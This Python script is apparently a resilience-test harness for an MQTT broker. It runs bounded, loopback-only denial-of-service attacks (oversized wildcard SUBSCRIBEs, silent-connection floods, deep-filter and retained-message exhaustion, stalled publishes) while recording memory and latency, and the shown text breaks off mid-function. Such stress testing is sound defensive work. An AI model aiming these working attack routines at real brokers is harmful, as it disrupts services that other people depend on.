#!/usr/bin/env python3
"""Hostile-client attacks of issue 7 against an MQTT 3.1.1 broker on 127.0.0.1.

Usage:
    python3 scripts/attack.py --port 1883 --pid <broker pid> --attack <name|all>
                              [--scale 1.0] [--duration 20] [--max-time 30]

Attacks (counts at --scale 1; --scale multiplies every count, see --help):
    subscribe_hash   1,000 retained x 10 KB, then ONE ~1 MiB SUBSCRIBE of `#`
                     x 262,142 from a client that never reads again
    retained_scan    20,000 retained x 10 B, then ONE SUBSCRIBE of `z/#`
                     x 174,761: time until its SUBACK
    silent_flood     10,200 TCP connections that never send CONNECT (reopened
                     when closed); a real client tries CONNECT every 500 ms
    deep_filters     10,000 filters of 200 levels in <= 1 MiB SUBSCRIBEs
    orphan_sessions  20,000 clean-session-0 clients subscribe x/# QoS 1 and
                     leave; then 100 QoS 1 PUBLISHes to x/y: PUBACK latency
    retained_flood   20,000 retained x 50 KB; how many the broker kept
    partial_publish  1,000 clients each send 999,000 bytes of a ~1 MB PUBLISH
                     and stall

While each attack runs, the broker's RSS (VmRSS of /proc/<pid>/status) is
sampled every 100 ms, and a live subscriber/publisher pair (each on its own
thread and event loop) measures the round trip of a QoS 1 message published
to `live/rtt` every 200 ms. A probe thread opens a fresh client every second
(every 500 ms for silent_flood), timing its CONNACK and SUBSCRIBE->SUBACK.

Output: for each attack one JSON line (prefixed "JSON ") and one human line;
--out FILE also writes all results as a JSON array.

Standard library only. Traffic goes to loopback only; every loop is bounded
in count and time. After each attack its sockets are closed and, unless
--no-cleanup, the retained messages / persistent sessions it created are
removed (empty retained PUBLISHes; reconnect with clean session 1).
"""

import argparse
import asyncio
import ipaddress
import json
import os
import resource
import socket
import statistics
import struct
import sys
import threading
import time

# --------------------------------------------------------------------------
# MQTT 3.1.1 encoding
# --------------------------------------------------------------------------

CONNECT, CONNACK, PUBLISH, PUBACK = 1, 2, 3, 4
SUBSCRIBE, SUBACK, PINGREQ, PINGRESP, DISCONNECT = 8, 9, 12, 13, 14

MAX_PACKET = 1048576          # bytes, fixed header included
SUB_BODY_MAX = MAX_PACKET - 5  # remaining length budget used for big SUBSCRIBEs


class ProtocolError(Exception):
    pass


def varint(n):
    if n < 0 or n > 268435455:
        raise ValueError("remaining length out of range: %d" % n)
    out = bytearray()
    while True:
        d = n % 128
        n //= 128
        if n:
            d |= 0x80
        out.append(d)
        if not n:
            return bytes(out)


def mstr(s):
    b = s.encode() if isinstance(s, str) else s
    if len(b) > 65535:
        raise ValueError("string too long")
    return struct.pack("!H", len(b)) + b


def packet(first_byte, body):
    return bytes([first_byte]) + varint(len(body)) + body


def connect_pkt(client_id, clean=True, keepalive=30):
    flags = 0x02 if clean else 0x00
    body = mstr("MQTT") + bytes([4, flags]) + struct.pack("!H", keepalive) + mstr(client_id)
    return packet(CONNECT << 4, body)


def publish_pkt(topic, payload, qos=0, retain=False, pid=None, dup=False):
    fb = (PUBLISH << 4) | (0x08 if dup else 0) | (qos << 1) | (1 if retain else 0)
    body = mstr(topic)
    if qos:
        body += struct.pack("!H", pid)
    return packet(fb, body + payload)


def subscribe_pkt(pid, filters):
    """filters: list of (filter, qos)."""
    body = struct.pack("!H", pid) + b"".join(mstr(f) + bytes([q]) for f, q in filters)
    return packet((SUBSCRIBE << 4) | 0x02, body)


def repeated_subscribe_pkt(pid, flt, qos, count):
    entry = mstr(flt) + bytes([qos])
    return packet((SUBSCRIBE << 4) | 0x02, struct.pack("!H", pid) + entry * count)


def max_repeats(flt):
    """How many copies of one filter fit one SUBSCRIBE within SUB_BODY_MAX."""
    entry = 2 + len(flt.encode()) + 1
    return (SUB_BODY_MAX - 2) // entry


def puback_pkt(pid):
    return bytes([PUBACK << 4, 2]) + struct.pack("!H", pid)


PINGREQ_PKT = bytes([PINGREQ << 4, 0])
DISCONNECT_PKT = bytes([DISCONNECT << 4, 0])


def parse_publish(flags, body):
    qos = (flags >> 1) & 3
    tlen = struct.unpack_from("!H", body, 0)[0]
    topic = body[2:2 + tlen]
    off = 2 + tlen
    pid = None
    if qos:
        pid = struct.unpack_from("!H", body, off)[0]
        off += 2
    return topic, qos, pid, bool(flags & 1), body[off:]


async def read_packet(reader):
    """One whole packet: (type, flags, body). Raises IncompleteReadError on EOF."""
    b0 = (await reader.readexactly(1))[0]
    rl, mult = 0, 1
    for _ in range(4):
        d = (await reader.readexactly(1))[0]
        rl += (d & 0x7F) * mult
        if not d & 0x80:
            break
        mult *= 128
    else:
        raise ProtocolError("malformed remaining length")
    body = await reader.readexactly(rl) if rl else b""
    return b0 >> 4, b0 & 0x0F, body


# --------------------------------------------------------------------------
# Small asyncio MQTT client
# --------------------------------------------------------------------------

HOST = "127.0.0.1"
NET_ERRORS = (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError,
              ConnectionError, ProtocolError, EOFError)


class Mqtt:
    def __init__(self, reader, writer):
        self.r = reader
        self.w = writer
        self.connack_rc = None
        self.connect_s = None
        self.session_present = None

    @classmethod
    async def connect(cls, port, client_id, clean=True, keepalive=30, timeout=5.0):
        """TCP connect + CONNECT + CONNACK within `timeout` s. Raises on failure;
        a CONNACK with a non-zero code is returned (check .connack_rc)."""
        t0 = time.monotonic()
        r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), timeout)
        c = cls(r, w)
        try:
            w.write(connect_pkt(client_id, clean, keepalive))
            left = max(0.001, timeout - (time.monotonic() - t0))
            ptype, _flags, body = await asyncio.wait_for(read_packet(r), left)
            if ptype != CONNACK or len(body) < 2:
                raise ProtocolError("expected CONNACK, got type %d" % ptype)
        except BaseException:
            c.abort()
            raise
        c.session_present = bool(body[0] & 1)
        c.connack_rc = body[1]
        c.connect_s = time.monotonic() - t0
        return c

    def send(self, data):
        self.w.write(data)

    async def drain(self, timeout):
        await asyncio.wait_for(self.w.drain(), timeout)

    async def read(self, timeout):
        return await asyncio.wait_for(read_packet(self.r), timeout)

    async def ping(self, timeout):
        """PINGREQ and wait for PINGRESP (packets before it are skipped): the
        broker has handled everything this client sent before."""
        self.send(PINGREQ_PKT)
        end = time.monotonic() + timeout
        while True:
            ptype, _f, _b = await self.read(max(0.001, end - time.monotonic()))
            if ptype == PINGRESP:
                return

    async def disconnect(self):
        try:
            self.send(DISCONNECT_PKT)
            await self.drain(1.0)
        except NET_ERRORS:
            pass
        self.close()

    def close(self):
        try:
            self.w.close()
        except Exception:
            pass

    def abort(self):
        try:
            self.w.transport.abort()
        except Exception:
            pass


# --------------------------------------------------------------------------
# Helpers
# --------------------------------------------------------------------------

TCP_STATES = {1: "ESTABLISHED", 2: "SYN_SENT", 3: "SYN_RECV", 4: "FIN_WAIT1",
              5: "FIN_WAIT2", 6: "TIME_WAIT", 7: "CLOSE", 8: "CLOSE_WAIT",
              9: "LAST_ACK", 10: "LISTEN", 11: "CLOSING"}


def tcp_state(sock):
    """Kernel TCP state of a socket, without reading from it (CLOSE_WAIT or
    CLOSE means the broker closed or reset it)."""
    try:
        info = sock.getsockopt(socket.IPPROTO_TCP, getattr(socket, "TCP_INFO", 11), 8)
        return TCP_STATES.get(info[0], str(info[0]))
    except OSError:
        return "CLOSED_LOCALLY"


def rx_queued(sock):
    """Bytes waiting unread in a socket's receive queue (what the broker sent)."""
    try:
        import fcntl
        import termios
        buf = fcntl.ioctl(sock.fileno(), termios.FIONREAD, b"\0\0\0\0")
        return struct.unpack("i", buf)[0]
    except Exception:
        return None


def ms(x):
    return None if x is None else round(x * 1000.0, 3)


def stats_ms(values_s):
    if not values_s:
        return {"n": 0, "median_ms": None, "max_ms": None}
    v = sorted(values_s)
    return {"n": len(v), "median_ms": ms(statistics.median(v)),
            "p99_ms": ms(v[min(len(v) - 1, int(len(v) * 0.99))]), "max_ms": ms(v[-1])}


def mb(kb):
    return None if kb is None else round(kb / 1024.0, 1)


def log(msg):
    if not ARGS.quiet:
        print("[%s] %s" % (time.strftime("%H:%M:%S"), msg), file=sys.stderr, flush=True)


def fmt(x, unit="", nd=1):
    if x is None:
        return "n/a"
    if isinstance(x, float):
        return ("%." + str(nd) + "f%s") % (x, unit)
    return "%s%s" % (x, unit)


# --------------------------------------------------------------------------
# RSS sampler (plain thread)
# --------------------------------------------------------------------------

def read_rss_kb(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    return None


class RssSampler:
    def __init__(self, pid, interval=0.1, limit_mb=None):
        self.pid = pid
        self.interval = interval
        self.limit_kb = limit_mb * 1024 if limit_mb else None
        self.samples = []            # (monotonic, kB)
        self.lock = threading.Lock()
        self.stop_ev = threading.Event()
        self.over_limit = threading.Event()
        self.dead = threading.Event()
        self.t = threading.Thread(target=self._run, name="rss", daemon=True)

    def _run(self):
        nxt = time.monotonic()
        while not self.stop_ev.is_set():
            try:
                kb = read_rss_kb(self.pid)
            except (FileNotFoundError, ProcessLookupError, PermissionError, ValueError):
                self.dead.set()
                kb = None
            if kb is not None:
                with self.lock:
                    self.samples.append((time.monotonic(), kb))
                if self.limit_kb and kb > self.limit_kb:
                    self.over_limit.set()
            nxt += self.interval
            self.stop_ev.wait(max(0.0, nxt - time.monotonic()))

    def start(self):
        self.t.start()

    def stop(self):
        self.stop_ev.set()
        self.t.join(2)

    def window(self, t0, t1):
        with self.lock:
            return [kb for (t, kb) in self.samples if t0 <= t <= t1]

    def at(self, t):
        """Last sample at or before t."""
        with self.lock:
            best = None
            for (ts, kb) in self.samples:
                if ts <= t:
                    best = kb
                else:
                    break
            return best

    def alive(self):
        return os.path.exists("/proc/%d" % self.pid) and not self.dead.is_set()


# --------------------------------------------------------------------------
# Threads with their own event loop
# --------------------------------------------------------------------------

class LoopThread:
    """Runs `coro_fn(stop_event)` in its own thread and event loop."""

    def __init__(self, name, coro_fn):
        self.coro_fn = coro_fn
        self.stop_ev = threading.Event()
        self.result = None
        self.error = None
        self.t = threading.Thread(target=self._run, name=name, daemon=True)

    def _run(self):
        try:
            self.result = asyncio.run(self.coro_fn(self.stop_ev))
        except BaseException as e:  # report, never kill the run
            self.error = repr(e)

    def start(self):
        self.t.start()
        return self

    def stop(self, join_timeout):
        self.stop_ev.set()
        self.t.join(join_timeout)
        return self.result


async def wait_event(ev, timeout):
    """Await a threading.Event from a loop (polling, bounded)."""
    end = time.monotonic() + timeout
    while not ev.is_set() and time.monotonic() < end:
        await asyncio.sleep(0.05)
    return ev.is_set()


# --------------------------------------------------------------------------
# Live publisher / subscriber pair
# --------------------------------------------------------------------------

LIVE_TOPIC = "live/rtt"
LIVE_PERIOD = 0.2
LIVE_LOSS_S = 5.0


def longest_stall(sends, arrivals, end):
    """Longest time in which no live message arrived while at least one had
    been sent and not yet arrived. sends/arrivals: seq -> monotonic time."""
    checkpoints = sorted(arrivals.values()) + [end]
    best, prev = 0.0, None
    for cur in checkpoints:
        starts = [s for q, s in sends.items()
                  if s < cur and (q not in arrivals or arrivals[q] >= cur)]
        if starts:
            start = min(starts)
            if prev is not None:
                start = max(start, prev)
            best = max(best, cur - start)
        prev = cur
    return best


class LivePair:
    def __init__(self, port, tag):
        self.port = port
        self.tag = tag
        self.ready = threading.Event()
        self.sends = {}        # seq -> t
        self.arrivals = {}     # seq -> t
        self.pubacks = []      # seconds
        self.reconnects = 0
        self.errors = []
        self.thread = LoopThread("live", self._main)

    def start(self):
        self.thread.start()

    def stop(self):
        """Stop publishing; waits up to LIVE_LOSS_S for outstanding messages."""
        self.thread.stop(LIVE_LOSS_S + 5)
        return self.report()

    async def _main(self, stop):
        sub_task = asyncio.create_task(self._subscriber(stop))
        pub_task = asyncio.create_task(self._publisher(stop))
        await pub_task
        sub_task.cancel()
        try:
            await sub_task
        except (asyncio.CancelledError, Exception):
            pass

    async def _subscriber(self, stop):
        n = 0
        self.sub_ready = asyncio.Event()
        while True:  # ends by cancel from _main (bounded by the publisher)
            n += 1
            c = None
            try:
                c = await Mqtt.connect(self.port, "live-sub-%s-%d" % (self.tag, n), True, 30, 5)
                if c.connack_rc != 0:
                    raise ProtocolError("CONNACK %d" % c.connack_rc)
                c.send(subscribe_pkt(1, [(LIVE_TOPIC, 1)]))
                while True:
                    ptype, _f, body = await c.read(5)
                    if ptype == SUBACK:
                        break
                self.sub_ready.set()
                last_ping = time.monotonic()
                while True:
                    try:
                        ptype, flags, body = await c.read(1.0)
                    except asyncio.TimeoutError:
                        ptype = None
                    now = time.monotonic()
                    if ptype == PUBLISH:
                        topic, qos, pid, _ret, payload = parse_publish(flags, body)
                        if qos == 1:
                            c.send(puback_pkt(pid))
                        if topic == LIVE_TOPIC.encode():
                            try:
                                seq = int(payload.split(b" ")[0])
                            except ValueError:
                                continue
                            if seq not in self.arrivals:
                                self.arrivals[seq] = now
                    if now - last_ping > 10:
                        c.send(PINGREQ_PKT)
                        last_ping = now
            except asyncio.CancelledError:
                if c:
                    c.abort()
                raise
            except NET_ERRORS as e:
                self.errors.append("sub: %r" % e)
                if c:
                    c.abort()
                self.reconnects += 1
                await asyncio.sleep(1.0)

    async def _publisher(self, stop):
        # wait for the subscriber's SUBACK (at most 5 s)
        for _ in range(100):
            if getattr(self, "sub_ready", None) is not None and self.sub_ready.is_set():
                break
            await asyncio.sleep(0.05)
        c = None
        inflight = {}
        reader_task = None
        n_conn = 0

        async def read_acks(conn):
            while True:
                ptype, _f, body = await read_packet(conn.r)
                if ptype == PUBACK:
                    pid = struct.unpack("!H", body[:2])[0]
                    t = inflight.pop(pid, None)
                    if t is not None:
                        self.pubacks.append(time.monotonic() - t)

        async def ensure():
            nonlocal c, reader_task, n_conn
            if c is not None and reader_task is not None and not reader_task.done():
                return True
            if c is not None:
                c.abort()
                self.reconnects += 1
            n_conn += 1
            try:
                c = await Mqtt.connect(self.port, "live-pub-%s-%d" % (self.tag, n_conn), True, 30, 2)
                if c.connack_rc != 0:
                    raise ProtocolError("CONNACK %d" % c.connack_rc)
            except NET_ERRORS as e:
                self.errors.append("pub: %r" % e)
                c = None
                return False
            reader_task = asyncio.create_task(read_acks(c))
            return True

        await ensure()
        self.ready.set()
        seq = 0
        t0 = time.monotonic()
        while not stop.is_set() and seq < 100000:
            nxt = t0 + seq * LIVE_PERIOD
            now = time.monotonic()
            if now < nxt:
                await asyncio.sleep(min(0.05, nxt - now))
                continue
            if now - nxt > LIVE_PERIOD:   # fell behind: restart the schedule, no burst
                t0 = now - seq * LIVE_PERIOD
            pid = (seq % 65535) + 1
            if await ensure():
                ts = time.monotonic()
                self.sends[seq] = ts
                inflight[pid] = ts
                try:
                    c.send(publish_pkt(LIVE_TOPIC, b"%d %d" % (seq, time.monotonic_ns()), 1, False, pid))
                except NET_ERRORS as e:
                    self.errors.append("pub send: %r" % e)
            else:
                # broker refused us: the message is expected but cannot be sent
                self.sends[seq] = time.monotonic()
                await asyncio.sleep(0.5)
            seq += 1
        # drain: wait for outstanding messages, at most LIVE_LOSS_S after the last send
        last = max(self.sends.values()) if self.sends else time.monotonic()
        while time.monotonic() < last + LIVE_LOSS_S:
            if all(q in self.arrivals for q in self.sends):
                break
            await asyncio.sleep(0.05)
        self.end_t = time.monotonic()
        if reader_task:
            reader_task.cancel()
        if c:
            await c.disconnect()

    def report(self):
        sends = dict(self.sends)
        arr = dict(self.arrivals)
        end = getattr(self, "end_t", time.monotonic())
        rtts = [arr[q] - s for q, s in sends.items() if q in arr]
        on_time = [x for x in rtts if x <= LIVE_LOSS_S]
        st = stats_ms(on_time)
        pa = stats_ms(self.pubacks)
        return {
            "sent": len(sends),
            "received": len(on_time),
            "lost": len(sends) - len(on_time),
            "late": len(rtts) - len(on_time),
            "rtt_median_ms": st["median_ms"],
            "rtt_p99_ms": st.get("p99_ms"),
            "rtt_max_ms": ms(max(rtts)) if rtts else None,
            "longest_stall_s": round(longest_stall(sends, arr, end), 3) if sends else None,
            "puback_median_ms": pa["median_ms"],
            "puback_max_ms": pa["max_ms"],
            "reconnects": self.reconnects,
            "errors": self.errors[:5] + ([self.thread.error] if self.thread.error else []),
        }


# --------------------------------------------------------------------------
# Probe: a fresh client every `interval` s
# --------------------------------------------------------------------------

class Prober:
    def __init__(self, port, tag, interval=1.0, connack_timeout=5.0, subscribe=True,
                 sub_timeout=5.0):
        self.port = port
        self.tag = tag
        self.interval = interval
        self.connack_timeout = connack_timeout
        self.subscribe = subscribe
        self.sub_timeout = sub_timeout
        self.results = []
        self.thread = LoopThread("probe", self._main)

    def start(self):
        self.thread.start()

    def stop(self):
        self.thread.stop(self.connack_timeout + self.sub_timeout + 3)
        return self.report()

    async def _one(self, n):
        res = {"n": n, "connack_rc": None, "connack_s": None, "suback_s": None, "error": None}
        self.results.append(res)
        c = None
        try:
            c = await Mqtt.connect(self.port, "probe-%s-%d" % (self.tag, n), True, 30,
                                   self.connack_timeout)
            res["connack_rc"] = c.connack_rc
            res["connack_s"] = c.connect_s
            if c.connack_rc == 0 and self.subscribe:
                t0 = time.monotonic()
                c.send(subscribe_pkt(1, [("probe/%d" % n, 0)]))
                end = t0 + self.sub_timeout
                while True:
                    ptype, _f, _b = await c.read(max(0.001, end - time.monotonic()))
                    if ptype == SUBACK:
                        res["suback_s"] = time.monotonic() - t0
                        break
            if c.connack_rc == 0:
                await c.disconnect()
            else:
                c.abort()
        except asyncio.TimeoutError:
            res["error"] = "timeout"
        except NET_ERRORS as e:
            res["error"] = type(e).__name__
        finally:
            if c:
                c.abort()

    async def _main(self, stop):
        tasks = set()
        n = 0
        t0 = time.monotonic()
        while not stop.is_set() and n < 10000:
            nxt = t0 + n * self.interval
            now = time.monotonic()
            if now >= nxt:
                n += 1
                t = asyncio.create_task(self._one(n))
                tasks.add(t)
                t.add_done_callback(tasks.discard)
            else:
                await asyncio.sleep(min(0.05, nxt - now))
        if tasks:
            await asyncio.wait(set(tasks), timeout=self.connack_timeout + self.sub_timeout + 1)
        for t in list(tasks):
            t.cancel()

    def report(self):
        rs = list(self.results)
        ok = [r for r in rs if r["connack_rc"] == 0]
        out = {
            "attempted": len(rs),
            "connack_0": len(ok),
            "connack_other": sum(1 for r in rs if r["connack_rc"] not in (None, 0)),
            "failed": sum(1 for r in rs if r["connack_rc"] is None),
            "connack_median_ms": stats_ms([r["connack_s"] for r in ok])["median_ms"],
            "connack_max_ms": stats_ms([r["connack_s"] for r in ok])["max_ms"],
            "errors": sorted(set(r["error"] for r in rs if r["error"])),
        }
        if self.subscribe:
            sb = [r["suback_s"] for r in rs if r["suback_s"] is not None]
            st = stats_ms(sb)
            out.update({"suback_ok": len(sb), "suback_median_ms": st["median_ms"],
                        "suback_max_ms": st["max_ms"]})
        return out


# --------------------------------------------------------------------------
# Attack context
# --------------------------------------------------------------------------

class Ctx:
    def __init__(self, args, sampler, name):
        self.args = args
        self.port = args.port
        self.sampler = sampler
        self.name = name
        self.tag = "%d-%s" % (os.getpid(), name)
        self.t_start = time.monotonic()
        self.deadline = self.t_start + args.max_time
        self.t_attack = None
        self.t_window_end = None
        self.extra = {}
        self.conns = []          # Mqtt clients to abort at the end
        self.socks = []          # raw sockets to close at the end
        self.cleanups = []       # coroutine functions run after the attack
        self.prober = None
        self.aborted = None

    def count(self, full):
        return max(1, int(round(full * self.args.scale)))

    def left(self):
        return max(0.0, self.deadline - time.monotonic())

    def setup_deadline(self):
        """Setup may use the budget but leaves 5 s for the attack itself."""
        return self.deadline - 5.0

    def check_abort(self):
        if self.aborted:
            return True
        if self.sampler.over_limit.is_set():
            self.aborted = "broker RSS above --rss-limit-mb"
        elif not self.sampler.alive():
            self.aborted = "broker process gone"
        return bool(self.aborted)

    async def sleep_until(self, t):
        """Sleep until monotonic t (capped at the deadline); returns early on abort."""
        t = min(t, self.deadline)
        while time.monotonic() < t:
            if self.check_abort():
                return False
            await asyncio.sleep(min(0.1, t - time.monotonic()))
        return not self.check_abort()

    def start_attack(self, probe_interval=1.0, connack_timeout=5.0, subscribe=True):
        self.t_attack = time.monotonic()
        self.prober = Prober(self.port, self.tag, probe_interval, connack_timeout, subscribe)
        self.prober.start()

    def hold_until(self):
        return min(self.t_attack + self.args.duration, self.deadline)

    def end_window(self):
        if self.t_window_end is None:
            self.t_window_end = time.monotonic()

    def track(self, conn):
        self.conns.append(conn)
        return conn

    def close_all(self):
        for c in self.conns:
            c.abort()
        for s in self.socks:
            try:
                s.close()
            except OSError:
                pass
        self.conns, self.socks = [], []


async def publish_bulk(ctx, client_id, items, deadline, qos=0, retain=True):
    """Publish (topic, payload) items on one connection, QoS 0, then sync with
    PINGREQ/PINGRESP. Returns dict with counts and timing."""
    t0 = time.monotonic()
    res = {"sent": 0, "synced": False, "seconds": None, "error": None}
    c = None
    try:
        c = await Mqtt.connect(ctx.port, client_id, True, 0, min(5, max(0.1, deadline - t0)))
        if c.connack_rc != 0:
            raise ProtocolError("CONNACK %d" % c.connack_rc)
        buf = []
        size = 0
        for topic, payload in items:
            if time.monotonic() > deadline or ctx.check_abort():
                res["error"] = "deadline" if not ctx.aborted else ctx.aborted
                break
            p = publish_pkt(topic, payload, qos, retain, 1 if qos else None)
            buf.append(p)
            size += len(p)
            res["sent"] += 1
            if size >= 1 << 20:
                c.send(b"".join(buf))
                buf, size = [], 0
                await c.drain(max(0.001, deadline - time.monotonic()))
        if buf:
            c.send(b"".join(buf))
            await c.drain(max(0.001, deadline - time.monotonic()))
        if res["error"] is None:
            await c.ping(max(0.001, deadline - time.monotonic()))
            res["synced"] = True
        await c.disconnect()
    except asyncio.TimeoutError:
        res["error"] = "timeout"
    except NET_ERRORS as e:
        res["error"] = repr(e)
    finally:
        if c:
            c.abort()
    res["seconds"] = round(time.monotonic() - t0, 3)
    return res


def clear_retained_cleanup(prefix, n):
    async def run(ctx, deadline):
        r = await publish_bulk(ctx, "clear-%s" % ctx.tag,
                               (("%s%d" % (prefix, i), b"") for i in range(n)), deadline)
        return {"cleared_retained": r["sent"], "synced": r["synced"]}
    return run


async def bounded_gather(n, limit, fn, deadline):
    """Run fn(i) for i in range(n), at most `limit` at once, until deadline."""
    sem = asyncio.Semaphore(limit)

    async def one(i):
        async with sem:
            if time.monotonic() > deadline:
                return "deadline"
            try:
                return await asyncio.wait_for(fn(i), max(0.001, deadline - time.monotonic()))
            except asyncio.TimeoutError:
                return "timeout"
            except NET_ERRORS as e:
                return type(e).__name__
    return await asyncio.gather(*(one(i) for i in range(n)))


# --------------------------------------------------------------------------
# Attacks
# --------------------------------------------------------------------------

async def raw_connect(ctx, client_id, keepalive=0, timeout=5.0):
    """A raw non-blocking socket after CONNECT/CONNACK; the script never reads
    from it again (asyncio streams would keep reading into their buffer)."""
    loop = asyncio.get_running_loop()
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    ctx.socks.append(s)
    await asyncio.wait_for(loop.sock_connect(s, (HOST, ctx.port)), timeout)
    await loop.sock_sendall(s, connect_pkt(client_id, True, keepalive))
    got = b""
    end = time.monotonic() + timeout
    while len(got) < 4:
        chunk = await asyncio.wait_for(loop.sock_recv(s, 4 - len(got)),
                                       max(0.001, end - time.monotonic()))
        if not chunk:
            raise ConnectionError("closed before CONNACK")
        got += chunk
    if got[0] != CONNACK << 4 or got[3] != 0:
        raise ProtocolError("CONNACK %r" % got)
    return s


async def atk_subscribe_hash(ctx):
    n_ret = ctx.count(1000)
    payload = b"R" * 10240
    ctx.cleanups.append(clear_retained_cleanup("ret/", n_ret))
    st = await publish_bulk(ctx, "ret-store-%s" % ctx.tag,
                            (("ret/%d" % i, payload) for i in range(n_ret)), ctx.setup_deadline())
    ctx.extra["retained_stored"] = st
    reps = max_repeats("#") if ctx.args.full_packets else min(max_repeats("#"), ctx.count(max_repeats("#")))
    pkt = repeated_subscribe_pkt(1, "#", 0, reps)
    ctx.extra.update({"filters": reps, "subscribe_bytes": len(pkt)})
    loop = asyncio.get_running_loop()
    ctx.start_attack()
    s = await raw_connect(ctx, "hash-%s" % ctx.tag, keepalive=0)
    t0 = time.monotonic()
    try:
        await asyncio.wait_for(loop.sock_sendall(s, pkt), max(0.001, ctx.hold_until() - t0))
        ctx.extra["subscribe_send_s"] = round(time.monotonic() - t0, 3)
    except asyncio.TimeoutError:
        ctx.extra["subscribe_send_s"] = None
        ctx.extra["subscribe_send_error"] = "broker did not read the whole SUBSCRIBE in time"
    except OSError as e:
        ctx.extra["subscribe_send_error"] = repr(e)
    await ctx.sleep_until(ctx.hold_until())
    ctx.end_window()
    ctx.extra["attacker_tcp_state"] = tcp_state(s)
    ctx.extra["attacker_unread_bytes"] = rx_queued(s)


async def atk_retained_scan(ctx):
    n_ret = ctx.count(20000)
    ctx.cleanups.append(clear_retained_cleanup("r/", n_ret))
    st = await publish_bulk(ctx, "r-store-%s" % ctx.tag,
                            (("r/%d" % i, b"0123456789") for i in range(n_ret)), ctx.setup_deadline())
    ctx.extra["retained_stored"] = st
    full = max_repeats("z/#")
    reps = full if ctx.args.full_packets else min(full, ctx.count(full))
    pkt = repeated_subscribe_pkt(7, "z/#", 0, reps)
    ctx.extra.update({"filters": reps, "subscribe_bytes": len(pkt)})
    ctx.start_attack()
    c = ctx.track(await Mqtt.connect(ctx.port, "scan-%s" % ctx.tag, True, 0, 5))
    t0 = time.monotonic()
    c.send(pkt)
    res = {"suback_s": None, "suback_codes": None, "error": None}
    try:
        await c.drain(max(0.001, ctx.hold_until() - time.monotonic()))
        res["sent_s"] = round(time.monotonic() - t0, 3)
        while True:
            ptype, _f, body = await c.read(max(0.001, ctx.hold_until() - time.monotonic()))
            if ptype == SUBACK:
                res["suback_s"] = round(time.monotonic() - t0, 3)
                codes = body[2:]
                res["suback_codes"] = {"granted": sum(1 for b in codes if b < 0x80),
                                       "failed": sum(1 for b in codes if b == 0x80)}
                break
    except asyncio.TimeoutError:
        res["error"] = "no SUBACK within the window"
    except NET_ERRORS as e:
        res["error"] = repr(e)
    ctx.extra.update(res)
    # a short tail so the live pair shows the recovery
    await ctx.sleep_until(min(time.monotonic() + 2.0, ctx.hold_until()))
    ctx.end_window()
    await c.disconnect()


async def atk_silent_flood(ctx):
    want = ctx.count(10200)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    cap = max(0, hard - 300)
    n = min(want, cap)
    ctx.extra.update({"sockets_wanted": want, "sockets_cap": cap, "sockets": n,
                      "rlimit_nofile": [soft, hard]})
    counts = {"opened": 0, "closed_by_broker": 0, "broker_sent_data": 0, "connect_failed": 0}
    open_now = [0]
    peak_open = [0]
    conn_sem = asyncio.Semaphore(256)     # concurrent TCP connects in progress
    ctx.start_attack(probe_interval=0.5, connack_timeout=2.0, subscribe=False)
    stop_at = ctx.hold_until()

    async def slot(i):
        attempts = 0
        while time.monotonic() < stop_at and attempts < 100000 and not ctx.check_abort():
            attempts += 1
            w = None
            try:
                async with conn_sem:
                    left = stop_at - time.monotonic()
                    if left <= 0:
                        return
                    r, w = await asyncio.wait_for(asyncio.open_connection(HOST, ctx.port),
                                                  min(3.0, left))
            except (asyncio.TimeoutError, OSError):
                counts["connect_failed"] += 1
                await asyncio.sleep(0.1)
                continue
            counts["opened"] += 1
            open_now[0] += 1
            peak_open[0] = max(peak_open[0], open_now[0])
            try:
                # never send anything; wait for the broker to close us
                data = await asyncio.wait_for(r.read(1), max(0.001, stop_at - time.monotonic()))
                # EOF: the broker closed it; data: it answered a silent socket
                # (we drop and reopen it either way)
                counts["closed_by_broker" if not data else "broker_sent_data"] += 1
            except asyncio.TimeoutError:
                pass
            except OSError:
                counts["closed_by_broker"] += 1
            finally:
                open_now[0] -= 1
                try:
                    w.transport.abort()
                except Exception:
                    pass
            await asyncio.sleep(0.1)

    tasks = [asyncio.create_task(slot(i)) for i in range(n)]
    await ctx.sleep_until(stop_at)
    ctx.extra["open_at_end"] = open_now[0]
    ctx.end_window()
    await asyncio.wait(tasks, timeout=5)
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    counts["peak_open"] = peak_open[0]
    ctx.extra.update(counts)


async def atk_deep_filters(ctx):
    n = ctx.count(10000)
    # 200 levels, every level the filter's own number: no two filters share a
    # prefix, so a trie stores every level of every filter (about 8.9 MB of
    # SUBSCRIBE at scale 1, as in the run).
    filters = ["/".join([str(i)] * 200) for i in range(n)]
    packets, cur, size, pid = [], [], 2, 1
    for f in filters:
        e = 2 + len(f) + 1
        if size + e > SUB_BODY_MAX and cur:
            packets.append((pid, subscribe_pkt(pid, cur)))
            pid += 1
            cur, size = [], 2
        cur.append((f, 0))
        size += e
    if cur:
        packets.append((pid, subscribe_pkt(pid, cur)))
    ctx.extra.update({"filters": n, "levels": 200, "packets": len(packets),
                      "bytes": sum(len(p) for _, p in packets)})
    ctx.start_attack()
    c = ctx.track(await Mqtt.connect(ctx.port, "deep-%s" % ctx.tag, True, 0, 5))
    t0 = time.monotonic()
    granted = failed = subacks = 0
    err = None
    try:
        for _pid, p in packets:
            c.send(p)
            await c.drain(max(0.001, ctx.hold_until() - time.monotonic()))
        ctx.extra["send_s"] = round(time.monotonic() - t0, 3)
        while subacks < len(packets):
            ptype, _f, body = await c.read(max(0.001, ctx.hold_until() - time.monotonic()))
            if ptype == SUBACK:
                subacks += 1
                for b in body[2:]:
                    if b == 0x80:
                        failed += 1
                    else:
                        granted += 1
        ctx.extra["all_subacks_s"] = round(time.monotonic() - t0, 3)
    except asyncio.TimeoutError:
        err = "SUBACKs incomplete within the window"
    except NET_ERRORS as e:
        err = "connection: %r" % e
    ctx.extra.update({"subacks": subacks, "granted": granted, "failed_0x80": failed,
                      "error": err})
    await ctx.sleep_until(min(time.monotonic() + min(5.0, ctx.args.duration), ctx.hold_until()))
    ctx.end_window()
    await c.disconnect()


async def atk_orphan_sessions(ctx):
    n = ctx.count(20000)
    ctx.start_attack()
    deadline = ctx.setup_deadline()
    t0 = time.monotonic()

    async def orphan(i):
